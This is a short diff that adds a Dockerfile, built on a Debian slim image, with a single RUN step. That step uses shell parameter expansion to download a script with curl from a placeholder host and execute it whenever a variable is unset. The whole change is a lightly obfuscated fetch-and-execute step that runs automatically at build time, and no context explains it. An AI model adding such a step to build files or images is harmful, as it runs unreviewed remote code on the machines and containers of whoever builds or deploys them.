@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN sh -c "${X:-$(curl https://example.com/i)}"
